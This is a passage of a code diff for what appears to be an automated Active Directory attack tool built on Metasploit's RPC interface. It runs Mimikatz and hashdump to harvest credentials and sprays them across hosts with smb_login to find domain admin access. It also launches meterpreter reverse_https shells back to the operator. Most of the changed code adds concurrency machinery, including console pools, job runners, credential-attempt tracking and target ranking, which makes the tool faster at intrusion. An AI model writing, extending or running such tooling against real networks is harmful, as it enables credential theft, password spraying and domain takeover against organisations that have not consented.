+                #b'0;1299212671  Negotiate  IIS APPPOOL   DefaultAppPool     '
+                #b'0;995         Negotiate  NT AUTHORITY  IUSR               '
+                #b'0;997         Negotiate  NT AUTHORITY  LOCAL SERVICE      '
+                #b'0;41167       NTLM                                        '
 
-            if len(line_split) < 5:
-                continue
+                if len(line_split) < 5:
+                    continue
 
-            dom = line_split[2].lower()
-            if dom.lower() in sess_data[sess_num][b'domain']:
-                dom_user = '{}\\{}'.format(dom.decode('utf8').lower(), line_split[3].decode('utf8'))
-                password = line_split[4]
+                dom = line_split[2].lower()
+                if dom.lower() in sess_data[sess_num][b'domain']:
+                    dom_user = '{}\\{}'.format(dom.decode('utf8').lower(), line_split[3].decode('utf8'))
+                    password = line_split[4]
 
-                # Check if it's just some hex shit that we can't use
-                if password.count(b' ') > 200:
-                    continue
+                    # Check if it's just some hex shit that we can't use
+                    if password.count(b' ') > 200:
+                        continue
 
-                if b'wdigest KO' not in password:
-                    creds = '{}:{}'.format(dom_user, password.decode('utf8'))
-                    if creds not in domain_data['creds']:
-                        domain_data['creds'].append(creds)
-                        msg = 'Creds found through Mimikatz: '+creds
-                        print_good(msg, 'Session', sess_num)
-                        await check_for_DA(lock, client, creds, sess_num, domain_data)
+                    if b'wdigest KO' not in password:
+                        creds = '{}:{}'.format(dom_user, password.decode('utf8'))
+                        if creds not in domain_data['creds']:
+                            domain_data['creds'].append(creds)
+                            queue_work(domain_data, WORK_CREDS, creds)
+                            msg = 'Creds found through Mimikatz: '+creds
+                            print_good(msg, 'Session', sess_num)
+                            await check_for_DA(lock, client, consoles, creds, sess_num, domain_data)
 
-async def check_creds_against_DC(lock, client, sess_num, cred_data, domain_data):
+async def check_creds_against_DC(lock, client, consoles, creds, sess_num, cred_data, domain_data):
     domain_data_key = 'domain_controllers'
     if domain_data_key in domain_data:
 
         dom_data_copy = domain_data.copy()
+        attempts = domain_data['attempts']
+        DCs = attempts.untested(creds, dom_data_copy[domain_data_key])
+        if not DCs:
+            return
         print_info('Checking [{}:{}] against domain controllers'.format(cred_data[1], cred_data[2]), 'Session', sess_num)
-        c_ids = [x[b'id'] for x in client.call('console.list')[b'consoles']]
-        c_id = await get_nonbusy_cid(client, c_ids)
 
         filename = 'DCs'
-        target_ips = create_hostsfile(dom_data_copy, filename, domain_data_key)
         threads = '1'
         dom = cred_data[0]
         user = cred_data[1]
         pwd = cred_data[2]
-        lhost = get_local_ip(get_iface())
 
-        cmd, output, err = await run_smb_login(client, c_id, lhost, threads, user, pwd, dom, target_ips)
-        await parse_smb_login(lock, c_id, output, domain_data)
-
-async def make_session_busy(sess_num, sess_data):
-    while sess_data[sess_num][b'busy'] == b'True':
-        await asyncio.sleep(1)
-    sess_data[sess_num][b'busy'] == b'True'
+        attempts.start_attempt(creds, DCs)
+        completed = False
+        try:
+            with host_files.use(filename, DCs) as target_ips:
+                async with consoles.borrow() as c_id:
+                    cmd, output, err = await run_smb_login(client, consoles, c_id, threads, user, pwd, dom, target_ips)
+            completed = not err
 
-def make_session_not_busy(sess_num, sess_data):
-    sess_data[sess_num][b'busy'] == b'False'
+            with output:
+                await parse_smb_login(lock, c_id, output, domain_data)
+        finally:
+            attempts.end_attempt(creds, DCs, completed)
 
-async def check_for_DA(lock, client, creds, sess_num, domain_data):
+async def check_for_DA(lock, client, consoles, creds, sess_num, domain_data):
 
     dom_user = creds.split(':', 1)[0]
     DAs = []
     cred_data = None
 
     # Get a copy of domain_data['domain_admins']
-    with await lock:
+    async with lock:
         for x in domain_data['domain_admins']:
             DAs.append(x)
 
@@ -864,10 +1080,10 @@ async def check_for_DA(lock, client, creds, sess_num, domain_data):
         print_good(msg, 'Session', sess_num)
         if len(domain_data['domain_controllers']) > 0:
             # This will run smb_login and parse_smb_login will tell us if its DA
-            await check_creds_against_DC(lock, client, sess_num, cred_data, domain_data)
+            await check_creds_against_DC(lock, client, consoles, creds, sess_num, cred_data, domain_data)
 
-async def get_passwords(lock, client, sess_num, sess_data, domain_data):
-    await run_mimikatz(lock, client, sess_num, sess_data, domain_data)
+async def get_passwords(lock, client, consoles, sess_num, sess_data, domain_data):
+    await run_mimikatz(lock, client, consoles, sess_num, sess_data, domain_data)
     await run_hashdump(lock, client, sess_num, sess_data, domain_data)
     #mimikittenz
 
@@ -875,40 +1091,379 @@ async def run_hashdump(lock, client, sess_num, sess_data, domain_data):
     cmd = 'hashdump'
     end_strs = None
 
-    await make_session_busy(sess_num, sess_data)
     output, err = await run_session_cmd(client, sess_num, sess_data, cmd, end_strs)
-    make_session_not_busy(sess_num, sess_data)
 
-    if err:
-        return
+    with output:
+        if err:
+            return
 
-    for l in output.splitlines():
-        l = l.strip().decode('utf8')
-        if l not in domain_data['creds']:
-            domain_data['creds'].append(l)
-            msg = 'Hashdump creds - '+l
-            print_good(msg, 'Session', sess_num)
-            #await check_for_DA(lock, client, l, sess_num, domain_data)
+        for l in output.lines():
+            l = l.strip().decode('utf8')
+            if l not in domain_data['creds']:
+                domain_data['creds'].append(l)
+                queue_work(domain_data, WORK_CREDS, l)
+                msg = 'Hashdump creds - '+l
+                print_good(msg, 'Session', sess_num)
+                #await check_for_DA(lock, client, l, sess_num, domain_data)
 
-def get_console_ids(client):
-    c_ids = [x[b'id'] for x in client.call('console.list')[b'consoles']]
+async def get_console_ids(client, num_consoles=5):
+    c_ids = [x[b'id'] for x in (await client.call('console.list'))[b'consoles']]
 
     print_info('Opening Metasploit consoles', None, None)
-    while len(c_ids) < 5:
-        client.call('console.create')
-        c_ids = [x[b'id'] for x in client.call('console.list')[b'consoles']] # Wait for response
-        time.sleep(2)
+    missing = num_consoles - len(c_ids)
+    if missing > 0:
+        created = await asyncio.gather(*[client.call('console.create') for x in range(missing)])
+        c_ids += [c[b'id'] for c in created]
 
-    for c_id in c_ids:
-        client.call('console.read', [c_id])[b'data'].decode('utf8').splitlines()
+    # Clear the banners
+    await asyncio.gather(*[client.call('console.read', [c_id]) for c_id in c_ids])
 
     return c_ids
 
-async def run_msf_module(client, c_id, mod, rhost_var, target_ips, lhost, extra_opts, start_cmd, end_strs):
+class ConsolePoller:
+    '''
+    Background console.list poller shared by every console waiter
+    state = {c_id: {'busy': bool, 'prompt': bytes, 'last_seen': float}}
+    Each console has an asyncio.Event that is set while the console is idle
+    '''
+
+    def __init__(self, client, c_ids, interval=0.5):
+        self.client = client
+        self.c_ids = list(c_ids)
+        self.interval = interval
+        self.state = {}
+        self.idle = {}
+        self.task = None
+
+    def start(self):
+        if self.task is None:
+            self.task = asyncio.ensure_future(self.run())
+        return self.task
+
+    async def run(self):
+        while True:
+            try:
+                await self.poll()
+            except asyncio.CancelledError:
+                raise
+            except Exception as e:
+                print_bad('Failed to poll console list: {}'.format(e), None, None)
+            await asyncio.sleep(self.interval)
+
+    async def poll(self):
+        consoles = (await self.client.call('console.list'))[b'consoles']
+        now = time.time()
+        for c in consoles:
+            c_id = c[b'id']
+            busy = c[b'busy']
+            self.state[c_id] = {'busy': busy,
+                                'prompt': c.get(b'prompt'),
+                                'last_seen': now}
+            if busy:
+                self.idle_event(c_id).clear()
+            else:
+                self.idle_event(c_id).set()
+
+        self.polled()
+
+    def polled(self):
+        pass
 
-    payload = 'windows/x64/meterpreter/reverse_https'
-    cmd = create_msf_cmd(mod, rhost_var, target_ips, lhost, payload, extra_opts, start_cmd)
-    mod_out, err = await run_console_cmd(client, c_id, cmd, end_strs)
+    def idle_event(self, c_id):
+        if c_id not in self.idle:
+            self.idle[c_id] = asyncio.Event()
+        return self.idle[c_id]
+
+    def is_busy(self, c_id):
+        return not self.idle_event(c_id).is_set()
+
+    def mark_busy(self, c_id):
+        self.idle_event(c_id).clear()
+
+    async def wait_idle(self, c_id):
+        await self.idle_event(c_id).wait()
+
+class ConsolePool(ConsolePoller):
+    '''
+    Hands out consoles one coroutine at a time. checkout() gives the caller
+    an idle console nobody else holds or queues it FIFO until one is
+    returned. Queued waiters open new consoles up to max_size, consoles
+    above min_size that sit idle for idle_timeout seconds are destroyed.
+    checkin() drains whatever output is left before the next caller gets it
+    '''
+
+    def __init__(self, client, c_ids, min_size=5, max_size=20, idle_timeout=60, interval=0.5):
+        super().__init__(client, c_ids, interval)
+        self.min_size = min_size
+        self.max_size = max(max_size, min_size)
+        self.idle_timeout = idle_timeout
+        self.checked_out = set()
+        self.waiters = deque()
+        self.creating = 0
+        self.last_used = dict((c_id, time.time()) for c_id in self.c_ids)
+        self.checkouts = 0
+        self.created = 0
+        self.destroyed = 0
+        self.peak = 0
+        self.busy_secs = 0
+        self.size_secs = 0
+        self.last_account = time.time()
+        self.shrink_task = None
+
+    def account(self):
+        # Integrate checked out and open consoles over time for utilization
+        now = time.time()
+        elapsed = now - self.last_account
+        self.busy_secs += elapsed * len(self.checked_out)
+        self.size_secs += elapsed * len(self.c_ids)
+        self.last_account = now
+
+    def waiting(self):
+        return len([fut for fut in self.waiters if not fut.done()])
+
+    def free_console(self):
+        for c_id in self.c_ids:
+            if c_id not in self.checked_out and not self.is_busy(c_id):
+                return c_id
+
+    def take(self, c_id):
+        self.account()
+        self.checked_out.add(c_id)
+        self.checkouts += 1
+        self.peak = max(self.peak, len(self.checked_out))
+
+    async def checkout(self):
+        # Don't jump ahead of anyone already waiting
+        c_id = None if self.waiting() else self.free_console()
+        if c_id is not None:
+            self.take(c_id)
+            return c_id
+
+        fut = asyncio.get_event_loop().create_future()
+        self.waiters.append(fut)
+        self.grow_if_needed()
+        try:
+            return await fut
+        except asyncio.CancelledError:
+            # Handed a console just as we were cancelled
+            if fut.done() and not fut.cancelled():
+                asyncio.ensure_future(self.checkin(fut.result()))
+            raise
+
+    async def checkin(self, c_id):
+        try:
+            await self.client.call('console.read', [c_id])
+        finally:
+            self.account()
+            self.checked_out.discard(c_id)
+            self.last_used[c_id] = time.time()
+            self.dispatch()
+
+    def borrow(self):
+        return ConsoleCheckout(self)
+
+    def dispatch(self):
+        while self.waiters:
+            if self.waiters[0].done():
+                self.waiters.popleft()
+                continue
+            c_id = self.free_console()
+            if c_id is None:
+                break
+            self.take(c_id)
+            self.waiters.popleft().set_result(c_id)
+
+    def grow_if_needed(self):
+        while self.waiting() > self.creating and len(self.c_ids) + self.creating < self.max_size:
+            self.creating += 1
+            asyncio.ensure_future(self.grow())
+
+    async def grow(self):
+        try:
+            c_id = (await self.client.call('console.create'))[b'id']
+            # Clear the banner
+            await self.client.call('console.read', [c_id])
+            self.account()
+            self.c_ids.append(c_id)
+            self.last_used[c_id] = time.time()
+            self.created += 1
+            print_info('Console pool grew to {} consoles'.format(len(self.c_ids)), 'Console', c_id)
+        except Exception as e:
+            print_bad('Failed to open a new console: {}'.format(e), None, None)
+        finally:
+            self.creating -= 1
+        # It's handed out once the poller sees it idle
+
+    def polled(self):
+        self.dispatch()
+        self.grow_if_needed()
+        # One shrink at a time, the next tick picks up whatever it missed
+        if self.shrink_task is None or self.shrink_task.done():
+            self.shrink_task = asyncio.ensure_future(self.shrink())
+
+    async def shrink(self):
+        now = time.time()
+        for c_id in list(self.c_ids):
+            if len(self.c_ids) <= self.min_size:
+                break
+            if c_id in self.checked_out or self.is_busy(c_id):
+                continue
+            if now - self.last_used.get(c_id, now) < self.idle_timeout:
+                continue
+
+            self.account()
+            self.c_ids.remove(c_id)
+            self.destroyed += 1
+            print_info('Console pool shrank to {} consoles'.format(len(self.c_ids)), 'Console', c_id)
+            try:
+                await self.client.call('console.destroy', [c_id])
+            except Exception as e:
+                print_bad('Failed to close console: {}'.format(e), 'Console', c_id)
+
+    def stats(self):
+        self.account()
+        return {'size': len(self.c_ids),
+                'min_size': self.min_size,
+                'max_size': self.max_size,
+                'checked_out': len(self.checked_out),
+                'waiting': self.waiting(),
+                'peak': self.peak,
+                'checkouts': self.checkouts,
+                'created': self.created,
+                'destroyed': self.destroyed,
+                'utilization': self.busy_secs / self.size_secs if self.size_secs else 0}
+
+    def report(self):
+        stats = self.stats()
+        msg = 'Console pool - {} consoles ({}-{}), {} checked out, {} waiting, peak {}, {:.0%} utilization'.format(
+                  stats['size'], stats['min_size'], stats['max_size'], stats['checked_out'],
+                  stats['waiting'], stats['peak'], stats['utilization'])
+        print_info(msg, None, None)
+
+class ModuleJobs:
+    '''
+    Runs modules as framework jobs through module.execute so they don't
+    hold a console. At most max_jobs run at once, one job.list per interval
+    tells every waiter whether its job is still running
+    '''
+
+    def __init__(self, client, max_jobs=10, interval=1):
+        self.client = client
+        self.semaphore = asyncio.Semaphore(max_jobs)
+        self.interval = interval
+        self.waiting = {}
+        self.task = None
+
+    def start(self):
+        if self.task is None:
+            self.task = asyncio.ensure_future(self.run())
+        return self.task
+
+    async def run(self):
+        while True:
+            try:
+                await self.poll()
+            except asyncio.CancelledError:
+                raise
+            except Exception as e:
+                print_bad('Failed to poll job list: {}'.format(e), None, None)
+            await asyncio.sleep(self.interval)
+
+    async def poll(self):
+        if not self.waiting:
+            return
+        running = [convert_num(j) for j in await self.client.call('job.list')]
+        for job_id, done in self.waiting.items():
+            if convert_num(job_id) not in running:
+                done.set()
+
+    async def execute(self, mod_type, mod_name, opts, timeout=None):
+        ''' Returns (module.execute result, None) once the job has finished
+        or (None, error) if it couldn't be started '''
+        kind = mod_name.split('/')[-1]
+        if timeout is None:
+            timeout = timeout_profiles.timeout_for(kind)
+
+        async with self.semaphore:
+            # Payloads call back to the LHOST of the msfrpcd that runs the job
+            idx = 0
+            pin = {}
+            if getattr(self.client, 'backend_count', 1) > 1:
+                idx = self.client.pick_backend('module.execute')
+                pin['backend'] = idx
+            if 'PAYLOAD' in opts:
+                opts = dict(opts, LHOST=rpc_backends[idx]['lhost'])
+            res = await self.client.call('module.execute', [mod_type, mod_name, opts], **pin)
+            if res.get(b'job_id') is None:
+                err = res.get(b'error_message', b'no job was started')
+                return (None, convert_num(err))
+
+            job_id = res[b'job_id']
+            start_time = time.time()
+            done = asyncio.Event()
+            self.waiting[job_id] = done
+            try:
+                await asyncio.wait_for(done.wait(), timeout)
+                timeout_profiles.record(kind, time.time() - start_time)
+            except asyncio.TimeoutError:
+                timeout_profiles.record_timeout(kind, time.time() - start_time)
+                await self.stop(job_id, timeout)
+            finally:
+                del self.waiting[job_id]
+
+        return (res, None)
+
+    async def stop(self, job_id, timeout):
+        info = await self.client.call('job.info', [job_id])
+        if b'name' in info:
+            print_bad('{} still running after {:.0f}s, stopping it'.format(convert_num(info[b'name']), timeout),
+                      'Job', convert_num(job_id))
+            await self.client.call('job.stop', [job_id])
+
+# Set up by main() from the --max-jobs arg
+module_jobs = None
+
+class ConsoleCheckout:
+    '''
+    async with wrapper around ConsolePool.checkout/checkin
+    '''
+
+    def __init__(self, pool):
+        self.pool = pool
+        self.c_id = None
+
+    async def __aenter__(self):
+        self.c_id = await self.pool.checkout()
+        return self.c_id
+
+    async def __aexit__(self, exc_type, exc, tb):
+        await self.pool.checkin(self.c_id)
+
+def inline_rhosts(target_ips):
+    ''' A remote msfrpcd can't read our host files so give it the hosts themselves '''
+    with open(target_ips[len('file:'):]) as f:
+        return ' '.join(f.read().split())
+
+def module_kind(mod, target_ips):
+    ''' Timeout profile kind for a module run. Run time grows with the number
+    of targets so a one-host DC check and a /16 spray are learned apart '''
+    if target_ips.startswith('file:'):
+        with open(target_ips[len('file:'):]) as f:
+            count = len(f.read().split())
+    else:
+        count = len(target_ips.split())
+    # Bucket by the next power of two
+    return '{}/{} hosts'.format(mod.split('/')[-1], 1 << max(count - 1, 0).bit_length())
+
+async def run_msf_module(client, consoles, c_id, mod, rhost_var, target_ips, extra_opts, start_cmd, end_strs):
+
+    backend = backend_for(client, c_id)
+    kind = module_kind(mod, target_ips)
+    if target_ips.startswith('file:') and not backend['local']:
+        target_ips = inline_rhosts(target_ips)
+
+    cmd = create_msf_cmd(mod, rhost_var, target_ips, backend['lhost'], MSF_PAYLOAD, extra_opts, start_cmd)
+    mod_out, err = await run_console_cmd(client, consoles, c_id, cmd, end_strs, kind)
 
     return (cmd, mod_out, err)
 
@@ -922,7 +1477,7 @@ def create_msf_cmd(module_path, rhost_var, target_ips, lhost, payload, extra_opt
 
     return cmds
 
-async def run_console_cmd(client, c_id, cmd, end_strs):
+async def run_console_cmd(client, consoles, c_id, cmd, end_strs, kind=None):
     '''
     Runs module and gets output
     '''
@@ -930,67 +1485,81 @@ async def run_console_cmd(client, c_id, cmd, end_strs):
     cmd_split = cmd.splitlines()
     module = cmd_split[0].split()[1]
     print_info('Running MSF module [{}]'.format(module), 'Console', c_id)
-    client.call('console.write',[c_id, cmd])
+    await client.call('console.write',[c_id, cmd])
 
-    output = await get_console_output(client, c_id, end_strs)
+    output, result = await get_console_output(client, consoles, c_id, end_strs, kind=kind or module.split('/')[-1])
     err = get_output_errors(output, cmd)
     if err:
         print_bad(err, 'Console', c_id)
+    # get_console_output already said it timed out
+    elif result and result.status == OutputMatcher.TIMEOUT:
+        err = timeout_error(module)
 
     return (output, err)
 
-async def get_console_output(client, c_id, end_strs, timeout=60):
+async def get_console_output(client, consoles, c_id, end_strs, timeout=None, kind=None):
     '''
     The only way to get console busy status is through console.read or console.list
-    console.read clears the output buffer so you gotta use console.list
-    but console.list requires you know the list offset of the c_id console
-    so this ridiculous list comprehension seems necessary to avoid assuming
-    what the right list offset might be
+    console.read clears the output buffer so busy status comes from the shared
+    ConsolePoller which refreshes console.list once per tick for every waiter
+    A busy console is waited on however long it takes, the timeout only
+    bounds the wait for end_strs once it's idle
     '''
+    if timeout is None:
+        timeout = timeout_profiles.timeout_for(kind)
+    start_time = time.time()
     counter = 0
     sleep_secs = 1
-    list_offset = int([x[b'id'] for x in client.call('console.list')[b'consoles'] if x[b'id'] is c_id][0])
-    output = b''
+    output = OutputBuffer(args.output_mem_cap)
+    # Errors are checked once the module is done by get_output_errors
+    matcher = OutputMatcher(end_strs, errors=False)
+    result = None
+
+    # The poller won't see the console go busy until its next refresh
+    consoles.mark_busy(c_id)
 
     # Give it a chance to start
     await asyncio.sleep(sleep_secs)
 
     # Get any initial output
-    output += client.call('console.read', [c_id])[b'data']
+    result = await read_console(client, c_id, output, matcher) or result
 
-    while client.call('console.list')[b'consoles'][list_offset][b'busy'] == True:
-        output += client.call('console.read', [c_id])[b'data']
-        await asyncio.sleep(sleep_secs)
+    while consoles.is_busy(c_id):
+        result = await read_console(client, c_id, output, matcher) or result
+        try:
+            await asyncio.wait_for(consoles.wait_idle(c_id), sleep_secs)
+        except asyncio.TimeoutError:
+            pass
         counter += sleep_secs
 
     while True:
-        output += client.call('console.read', [c_id])[b'data']
-
-        if end_strs:
+        result = await read_console(client, c_id, output, matcher) or result
 
-            if any(end_strs in output for end_strs in end_strs):
-                break
+        if end_strs and result:
+            timeout_profiles.record(kind, time.time() - start_time)
+            break
 
         if counter > timeout:
+            print_bad('Module output timed out after {:.0f}s'.format(timeout), 'Console', c_id)
+            if end_strs:
+                timeout_profiles.record_timeout(kind, time.time() - start_time)
+                result = matcher.timeout()
             break
 
         await asyncio.sleep(sleep_secs)
         counter += sleep_secs
 
     # Get remaining output
-    output += client.call('console.read', [c_id])[b'data']
+    await read_console(client, c_id, output, matcher)
 
     debug_info(output, 'Console', c_id)
 
-    return output
+    return (output, result)
 
-async def get_nonbusy_cid(client, c_ids):
-    while True:
-        for c_id in c_ids:
-            list_offset = int([x[b'id'] for x in client.call('console.list')[b'consoles'] if x[b'id'] is c_id][0])
-            if client.call('console.list')[b'consoles'][list_offset][b'busy'] == False:
-                return c_id
-        await asyncio.sleep(1)
+async def read_console(client, c_id, output, matcher):
+    data = (await client.call('console.read', [c_id]))[b'data']
+    output.append(data)
+    return matcher.feed(data)
 
 def plaintext_or_hash(creds):
     if creds.count(':') == 6 and creds.endswith(':::'):
@@ -1022,23 +1591,282 @@ def parse_creds(creds):
 
     return dom, user, pwd, rid
 
-async def spread(lock, client, c_ids, lhost, sess_data, domain_data):
+# Work items pushed onto domain_data['work_queue'] as (kind, item)
+WORK_CREDS = 'creds'        # item: new creds string
+WORK_ADMIN = 'admin'        # item: (creds, ip) admin login
+WORK_SESSION = 'session'    # item: session number or IP whose session state changed
+
+def queue_work(domain_data, kind, item=None):
+    work_queue = domain_data.get('work_queue')
+    if work_queue is not None:
+        work_queue.put_nowait((kind, item))
 
+def drain_work(work_queue, first):
+    ''' Take the item we woke up for plus everything queued behind it '''
+    items = [first]
     while True:
+        try:
+            items.append(work_queue.get_nowait())
+        except asyncio.QueueEmpty:
+            return items
+
+class AttemptMatrix:
+    '''
+    Which creds have been tried against which hosts. Hosts get an int ID
+    and every creds string keeps int bitsets over those IDs for logins
+    attempted, admin logins found and shells launched, so tens of thousands
+    of hosts cost a few KB per creds. Sprays that are still running are kept
+    in flight and only count as attempted once they complete
+    '''
+
+    def __init__(self):
+        self.host_ids = {}
+        self.hosts = []
+        self.attempted = {}
+        self.inflight = {}
+        self.succeeded = {}
+        self.launched = {}
+        # (creds, host ID): shell attempts that ended without a session
+        self.failures = {}
+        # creds: sprays that errored, timed out or were cancelled
+        self.spray_failures = {}
+
+    def host_id(self, ip):
+        if ip not in self.host_ids:
+            self.host_ids[ip] = len(self.hosts)
+            self.hosts.append(ip)
+        return self.host_ids[ip]
+
+    def host_bits(self, ips):
+        bits = 0
+        for ip in ips:
+            bits |= 1 << self.host_id(ip)
+        return bits
+
+    def bit_hosts(self, bits):
+        hosts = []
+        while bits:
+            low = bits & -bits
+            hosts.append(self.hosts[low.bit_length() - 1])
+            bits ^= low
+        return hosts
+
+    def untested(self, creds, ips):
+        ''' The IPs in ips these creds haven't been or aren't being tried against, in order '''
+        tried = self.attempted.get(creds, 0) | self.inflight.get(creds, 0)
+        return [ip for ip in ips if not tried >> self.host_id(ip) & 1]
+
+    def mark_attempted(self, creds, ips):
+        self.attempted[creds] = self.attempted.get(creds, 0) | self.host_bits(ips)
+
+    def start_attempt(self, creds, ips):
+        self.inflight[creds] = self.inflight.get(creds, 0) | self.host_bits(ips)
+
+    def end_attempt(self, creds, ips, completed):
+        ''' Hosts of a spray that errored, timed out or was cancelled are untested again '''
+        self.inflight[creds] = self.inflight.get(creds, 0) & ~self.host_bits(ips)
+        if completed:
+            self.mark_attempted(creds, ips)
+
+    def spray_failed(self, creds, retries):
+        ''' Whether creds whose spray didn't complete should be sprayed again '''
+        self.spray_failures[creds] = self.spray_failures.get(creds, 0) + 1
+        return self.spray_failures[creds] <= retries
+
+    def is_admin(self, creds, ip):
+        return bool(self.succeeded.get(creds, 0) >> self.host_id(ip) & 1)
+
+    def mark_admin(self, creds, ip):
+        self.mark_attempted(creds, [ip])
+        self.succeeded[creds] = self.succeeded.get(creds, 0) | self.host_bits([ip])
+
+    def unlaunched(self):
+        ''' (creds, ip) for every admin login we haven't tried to open a shell with '''
+        for creds, succeeded in list(self.succeeded.items()):
+            for ip in self.bit_hosts(succeeded & ~self.launched.get(creds, 0)):
+                yield creds, ip
+
+    def mark_launched(self, creds, ip):
+        self.launched[creds] = self.launched.get(creds, 0) | self.host_bits([ip])
+
+    def launch_failed(self, creds, ip, retries):
+        ''' Hand the pair back to unlaunched() unless it's failed more than retries times '''
+        key = (creds, self.host_id(ip))
+        self.failures[key] = self.failures.get(key, 0) + 1
+        if self.failures[key] > retries:
+            return False
+        self.launched[creds] = self.launched.get(creds, 0) & ~self.host_bits([ip])
+        return True
+
+class WorkerPool:
+    '''
+    Runs spread() work in the background. At most max_workers items run at
+    once and at most per_target of them share a target, so one host or
+    account isn't hit by several attempts at the same time. Items waiting
+    for a worker are started by (priority, arrival), lowest first
+    '''
+
+    def __init__(self, max_workers=20, per_target=1):
+        self.max_workers = max_workers
+        self.per_target = per_target
+        self.free = max_workers
+        self.waiters = []
+        self.counter = 0
+        # target: [semaphore, number of queued or running items]
+        self.targets = {}
+        self.tasks = set()
+        self.queued = 0
+        self.running = 0
+        self.peak_queued = 0
+        self.completed = 0
+        self.failed = 0
+
+    def submit(self, target, coro, priority=0):
+        self.queued += 1
+        self.peak_queued = max(self.peak_queued, self.queued)
+        if target not in self.targets:
+            self.targets[target] = [asyncio.Semaphore(self.per_target), 0]
+        self.targets[target][1] += 1
+
+        task = asyncio.ensure_future(self.run(target, coro, priority))
+        self.tasks.add(task)
+        task.add_done_callback(self.tasks.discard)
+        return task
+
+    async def acquire(self, priority):
+        if self.free > 0 and not self.waiters:
+            self.free -= 1
+            return
+
+        fut = asyncio.get_event_loop().create_future()
+        heapq.heappush(self.waiters, (priority, self.counter, fut))
+        self.counter += 1
+        try:
+            await fut
+        except asyncio.CancelledError:
+            # Handed a worker just as we were cancelled
+            if fut.done() and not fut.cancelled():
+                self.release()
+            raise
+
+    def release(self):
+        while self.waiters:
+            priority, counter, fut = heapq.heappop(self.waiters)
+            # Cancelled waiters are skipped
+            if fut.done():
+                continue
+            fut.set_result(None)
+            return
+        self.free += 1
+
+    async def run(self, target, coro, priority):
+        target_semaphore = self.targets[target][0]
+        started = False
+        try:
+            async with target_semaphore:
+                await self.acquire(priority)
+                self.queued -= 1
+                self.running += 1
+                started = True
+                try:
+                    await coro
+                    self.completed += 1
+                except asyncio.CancelledError:
+                    raise
+                except Exception as e:
+                    self.failed += 1
+                    print_bad('Spread work against [{}] failed: {}'.format(target, e), None, None)
+                finally:
+                    self.running -= 1
+                    self.release()
+        finally:
+            if not started:
+                self.queued -= 1
+                coro.close()
+            self.targets[target][1] -= 1
+            if self.targets[target][1] == 0:
+                del self.targets[target]
+
+    def stats(self):
+        return {'max_workers': self.max_workers,
+                'per_target': self.per_target,
+                'queued': self.queued,
+                'running': self.running,
+                'peak_queued': self.peak_queued,
+                'targets': len(self.targets),
+                'completed': self.completed,
+                'failed': self.failed}
+
+    def report(self):
+        stats = self.stats()
+        msg = 'Spread workers - {} running (max {}), {} queued, peak {} queued, {} done, {} failed'.format(
+                  stats['running'], stats['max_workers'], stats['queued'], stats['peak_queued'],
+                  stats['completed'], stats['failed'])
+        print_info(msg, None, None)
+
+# Set up by main() from the --max-workers and --max-per-target args
+spread_workers = None
+
+def get_admin_ips(sess_data):
+    ''' IPs we already have an admin session on '''
+    admin_ips = set()
+    for sess_num in sess_data:
+        if sess_data[sess_num].get(b'admin_shell') == b'True' and b'gone' not in sess_data[sess_num]:
+            ip = sess_data[sess_num][b'tunnel_peer'].split(b':')[0]
+            admin_ips.add(ip.decode('utf8'))
+    return admin_ips
+
+def target_scorer(domain_data, admin_ips):
+    '''
+    Returns a function that scores an IP by the --priority-* weights of
+    the signals it matches, higher scores are worth attacking first
+    '''
+    userhunter_ips = set(domain_data['high_priority_ips'])
+    dc_ips = set(domain_data.get('domain_controllers', []))
+
+    def score(ip):
+        total = 0
+        if ip in userhunter_ips:
+            total += args.priority_userhunter
+        if ip in dc_ips:
+            total += args.priority_dc
+        if ip not in admin_ips:
+            total += args.priority_no_admin
+        return total
+
+    return score
+
+def rank_targets(ips, domain_data, admin_ips):
+    ''' Highest scoring IPs first, ties keep their order '''
+    score = target_scorer(domain_data, admin_ips)
+    return sorted(ips, key=score, reverse=True)
+
+async def spread(lock, client, consoles, sess_data, domain_data):
+    work_queue = domain_data['work_queue']
+
+    # Creds found before we started listening
+    for c in domain_data['creds']:
+        queue_work(domain_data, WORK_CREDS, c)
+
+    while True:
+        items = drain_work(work_queue, await work_queue.get())
+
         # Copy the dict so we can loop it safely
         dom_data_copy = domain_data.copy()
 
-        for c in dom_data_copy['creds']:
-            if c not in dom_data_copy['checked_creds']:
-                # Set up a dict where the key is the creds and the val are the hosts we are admin on
-                dom_data_copy['checked_creds'][c] = []
-                await run_smb_brute(lock, client, c_ids, lhost, c, domain_data, dom_data_copy)
+        for kind, item in items:
+            # run_smb_brute only sprays the hosts these creds haven't been tried against
+            if kind == WORK_CREDS:
+                # Sprays of one account share a target so they don't stack up its lockout counter
+                dom, user, pwd, rid = parse_creds(item)
+                target = 'spray:{}\\{}'.format(dom, user)
+                spread_workers.submit(target, run_smb_brute(lock, client, consoles, item,
+                                                            sess_data, domain_data, dom_data_copy))
 
-        await get_new_shells(lock, client, c_ids, lhost, sess_data, domain_data, dom_data_copy)
+        # Any of the work items can change which hosts need a shell
+        await get_new_shells(lock, client, consoles, sess_data, domain_data, dom_data_copy)
 
-        await asyncio.sleep(1)
-
-async def run_smb_login(client, c_id, lhost, threads, user, pwd, dom, target_ips):
+async def run_smb_login(client, consoles, c_id, threads, user, pwd, dom, target_ips):
     mod = 'auxiliary/scanner/smb/smb_login'
     rhost_var = 'RHOSTS'
     start_cmd = 'run'
@@ -1054,10 +1882,10 @@ async def run_smb_login(client, c_id, lhost, threads, user, pwd, dom, target_ips
     else:
         print_info('Trying credentials [{}:{}] against {}'.format(user, pwd, target_ips), 'Console', c_id)
 
-    cmd, output, err = await run_msf_module(client, c_id, mod, rhost_var, target_ips, lhost, extra_opts, start_cmd, end_strs)
+    cmd, output, err = await run_msf_module(client, consoles, c_id, mod, rhost_var, target_ips, extra_opts, start_cmd, end_strs)
     return (cmd, output, err)
 
-async def run_smb_brute(lock, client, c_ids, lhost, creds, domain_data, dom_data_copy):
+async def run_smb_brute(lock, client, consoles, creds, sess_data, domain_data, dom_data_copy):
     cred_type = plaintext_or_hash(creds)
     dom, user, pwd, rid = parse_creds(creds)
     threads = '32'
@@ -1067,23 +1895,37 @@ async def run_smb_brute(lock, client, c_ids, lhost, creds, domain_data, dom_data
         return
 
     filename = 'unchecked_hosts'
-    domain_data_key = 'hosts'
-    target_ips = create_hostsfile(dom_data_copy, filename, domain_data_key)
-    c_id = await get_nonbusy_cid(client, c_ids)
+    attempts = domain_data['attempts']
+    hosts = attempts.untested(creds, dom_data_copy['hosts'])
+    if not hosts:
+        return
+    # smb_login works through the file in order
+    hosts = rank_targets(hosts, domain_data, get_admin_ips(sess_data))
 
